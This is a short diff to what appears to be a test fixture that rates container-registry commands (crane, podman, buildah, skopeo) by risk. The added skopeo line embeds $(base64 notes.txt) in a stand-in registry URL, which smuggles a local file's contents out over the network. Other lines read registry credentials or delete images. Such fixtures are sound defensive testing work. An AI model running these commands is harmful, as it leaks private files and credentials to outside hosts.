@@ -19,3 +19,4 @@ crane delete registry.example.org/app:1  # want dangerous irreversible
 crane auth get registry.example.org  # want moderate
 podman unshare # want moderate
 buildah inspect web  # want safe
+skopeo inspect "docker://registry.example/$(base64 notes.txt)"  # want moderate
